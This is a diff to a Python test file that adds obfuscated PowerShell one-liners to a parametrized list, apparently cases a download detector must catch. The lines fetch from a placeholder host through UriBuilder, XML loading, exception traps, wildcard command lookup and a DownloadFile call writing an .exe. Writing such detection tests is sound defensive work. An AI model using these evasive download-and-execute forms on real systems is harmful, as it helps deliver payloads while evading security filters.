@@ -96,6 +96,16 @@ def test_registry_tasks_and_files():
         "(New-Object Net.Http.HttpClient).GetStringAsync('http://a.example.test/x').Result",
         "$w=New-Object Net.WebClient;$w.BaseAddress='http://a.example.test/';$w.OpenRead('http://a.example.test/x')",
         "[Net.WebClient]::new().DownloadData('http://a.example.test/x')",
+        "[UriBuilder]::new('http','a.example.test',80,'x').Uri|%{irm $_}",
+        "$u=[UriBuilder]'http://b.example.test:8080/y';$u.Host='a.example.test';$u.Port=80;$u.Path='/x';iwr $u.Uri",
+        "(New-Object Microsoft.VisualBasic.Devices.Network).DownloadFile('http://a.example.test/x','C:\\x.exe')",
+        "(New-Object Xml.XmlDocument).Load('http://a.example.test/x')",
+        "([xml]'<a><b>http://a.example.test/x</b></a>').a.b|%{iwr $_}",
+        "$d=[xml]'<a><b k=\"http://a.example.test/x\"/><b/></a>';iwr $d.SelectNodes('//b')[0].k",
+        "trap{iwr $_.Exception.Message;continue};throw 'http://a.example.test/x'",
+        "$s=New-PSSession;icm $s {iwr http://a.example.test/x}",
+        "&(gcm i*x) 'iwr http://a.example.test/x'",
+        "&$ExecutionContext.InvokeCommand.GetCommandName('I*e-W*t',1,1) http://a.example.test/x",
     ],
 )
 def test_ways_to_download(text):
